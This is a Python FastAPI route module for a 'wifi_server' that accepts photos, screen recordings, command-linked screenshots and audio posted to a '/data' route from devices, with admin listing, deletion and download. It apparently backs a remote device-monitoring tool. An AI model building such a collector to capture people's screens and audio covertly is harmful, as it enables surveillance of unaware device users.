"""
Media routes - uploads from devices, photo administration and downloads
"""

import logging
from datetime import datetime, timezone
from typing import Any, Dict, Optional

from fastapi import APIRouter, Depends, File, Form, Header, HTTPException, UploadFile
from fastapi.responses import FileResponse
from starlette.datastructures import UploadFile as StarletteUploadFile

from wifi_server.dependencies import get_body, get_media_store, get_server_url
from wifi_server.media import (
    PHOTOS,
    RECORDINGS,
    SCREEN_RECORDINGS,
    SCREENSHOTS,
    MediaError,
    MediaStore,
    format_file_size,
    size_kb,
    size_mb,
)
from wifi_server.models import (
    DeleteResponse,
    PhotoDetailResponse,
    PhotoInfo,
    PhotoListResponse,
    UploadResponse,
)

router = APIRouter(tags=["Media"])
logger = logging.getLogger(__name__)


@router.post(
    "/upload_photo", response_model=UploadResponse, response_model_exclude_none=True
)
async def upload_photo(
    body: Dict[str, Any] = Depends(get_body),
    x_device_id: Optional[str] = Header(default=None),
    x_file_name: Optional[str] = Header(default=None),
    media: MediaStore = Depends(get_media_store),
) -> UploadResponse:
    """
    Upload a photo.

    Accepts a multipart ``photo`` file, or a base64 ``data`` field sent
    as JSON or form data. The device id comes from the ``device_id``
    field or the ``X-Device-Id`` header.
    """
    photo = body.get("photo")
    if isinstance(photo, StarletteUploadFile):
        device_id = body.get("device_id") or x_device_id or "unknown"
        stored = media.save(PHOTOS, device_id, photo.filename, await photo.read())
        logger.info(
            f"Photo uploaded (file) - Device: {device_id}, "
            f"Size: {size_kb(stored.size)} KB, File: {stored.filename}"
        )
    elif body.get("data"):
        device_id = x_device_id or body.get("device_id") or "unknown"
        try:
            stored = media.save_base64_photo(device_id, str(body["data"]), x_file_name)
        except MediaError as e:
            raise HTTPException(status_code=400, detail=str(e))
        logger.info(
            f"Photo uploaded (base64) - Device: {device_id}, "
            f"Size: {size_kb(stored.size)} KB, File: {stored.filename}"
        )
    else:
        raise HTTPException(status_code=400, detail="No photo data received")

    return UploadResponse(
        message="Photo uploaded successfully",
        filename=stored.filename,
        size_kb=size_kb(stored.size),
        device_id=str(device_id),
        url=f"/uploads/{PHOTOS}/{stored.filename}",
    )


@router.post(
    "/upload_screen_recording",
    response_model=UploadResponse,
    response_model_exclude_none=True,
)
async def upload_screen_recording(
    file: Optional[UploadFile] = File(default=None),
    device_id: Optional[str] = Form(default=None),
    x_device_id: Optional[str] = Header(default=None),
    media: MediaStore = Depends(get_media_store),
) -> UploadResponse:
    """Upload a screen recording (multipart field ``file``)."""
    if file is None:
        raise HTTPException(status_code=400, detail="No file received")

    device_id = device_id or x_device_id or "unknown"
    stored = media.save(SCREEN_RECORDINGS, device_id, file.filename, await file.read())
    logger.info(
        f"Screen recording uploaded - Device: {device_id}, Size: {size_mb(stored.size)} MB"
    )

    return UploadResponse(
        message="Screen recording uploaded",
        filename=stored.filename,
        size_mb=size_mb(stored.size),
        device_id=device_id,
    )


@router.post(
    "/screenshot/upload", response_model=UploadResponse, response_model_exclude_none=True
)
async def upload_screenshot(
    screenshot: Optional[UploadFile] = File(default=None),
    device_id: Optional[str] = Form(default=None),
    command_id: Optional[str] = Form(default=None),
    media: MediaStore = Depends(get_media_store),
) -> UploadResponse:
    """
    Upload a screenshot.

    ``command_id`` links the screenshot to the command that requested it.
    """
    if screenshot is None:
        raise HTTPException(status_code=400, detail="No screenshot file")

    device_id = device_id or "unknown"
    stored = media.save(SCREENSHOTS, device_id, screenshot.filename, await screenshot.read())
    logger.info(
        f"Screenshot uploaded - Device: {device_id}, Size: {size_kb(stored.size)} KB"
    )

    return UploadResponse(
        message="Screenshot uploaded",
        filename=stored.filename,
        size_kb=size_kb(stored.size),
        device_id=device_id,
        command_id=command_id or "unknown",
    )


@router.post("/data", response_model=UploadResponse, response_model_exclude_none=True)
async def upload_audio(
    audio_file: Optional[UploadFile] = File(default=None),
    device_id: Optional[str] = Form(default=None),
    media: MediaStore = Depends(get_media_store),
) -> UploadResponse:
    """Upload an audio recording (multipart field ``audio_file``)."""
    if audio_file is None:
        raise HTTPException(status_code=400, detail="No audio file")

    device_id = device_id or "unknown"
    stored = media.save(RECORDINGS, device_id, audio_file.filename, await audio_file.read())
    logger.info(f"Audio uploaded - Device: {device_id}, Size: {size_mb(stored.size)} MB")

    return UploadResponse(
        message="Audio uploaded",
        filename=stored.filename,
        size_mb=size_mb(stored.size),
        device_id=device_id,
    )


# ============================================================
# Photo administration
# ============================================================


@router.get("/admin/photos", response_model=PhotoListResponse, tags=["Admin"])
async def list_photos(
    server_url: str = Depends(get_server_url),
    media: MediaStore = Depends(get_media_store),
) -> PhotoListResponse:
    """List stored photos, newest first."""
    photos = [
        PhotoInfo(
            filename=p.filename,
            device_id=p.device_id,
            url=f"{server_url}/uploads/{PHOTOS}/{p.filename}",
            download_url=f"{server_url}/download/photo/{p.filename}",
            size=p.size,
            size_formatted=format_file_size(p.size),
            created=p.created,
            modified=p.modified,
        )
        for p in media.list_photos()
    ]
    logger.info(f"Found {len(photos)} photos")

    return PhotoListResponse(
        photos=photos,
        count=len(photos),
        server_url=server_url,
        timestamp=datetime.now(timezone.utc),
    )


@router.delete("/admin/photos/{filename}", response_model=DeleteResponse, tags=["Admin"])
async def delete_photo(
    filename: str,
    media: MediaStore = Depends(get_media_store),
) -> DeleteResponse:
    """Delete a single photo."""
    if not media.delete_photo(filename):
        raise HTTPException(status_code=404, detail="Photo not found")

    return DeleteResponse(message=f"Photo {filename} deleted successfully")


@router.delete("/admin/photos", response_model=DeleteResponse, tags=["Admin"])
async def clear_photos(
    media: MediaStore = Depends(get_media_store),
) -> DeleteResponse:
    """Delete every stored photo."""
    deleted = media.clear_photos()
    return DeleteResponse(message="All photos cleared successfully", deleted=deleted)


# ============================================================
# Downloads
# ============================================================


@router.get("/download/{file_type}/{filename}")
async def download_file(
    file_type: str,
    filename: str,
    media: MediaStore = Depends(get_media_store),
) -> FileResponse:
    """Download a stored file as an attachment."""
    try:
        stored = media.find_download(file_type, filename)
    except MediaError:
        raise HTTPException(status_code=400, detail="Invalid file type")

    if stored is None:
        raise HTTPException(status_code=404, detail="File not found")

    return FileResponse(stored.path, filename=stored.filename)


@router.get("/photo/{filename}", response_model=PhotoDetailResponse)
async def get_photo(
    filename: str,
    server_url: str = Depends(get_server_url),
    media: MediaStore = Depends(get_media_store),
) -> PhotoDetailResponse:
    """Metadata for a single stored photo."""
    photo = media.find(PHOTOS, filename)
    if photo is None:
        raise HTTPException(status_code=404, detail="Photo not found")

    return PhotoDetailResponse(
        filename=photo.filename,
        url=f"{server_url}/uploads/{PHOTOS}/{photo.filename}",
        size=photo.size,
        created=photo.created,
        modified=photo.modified,
    )
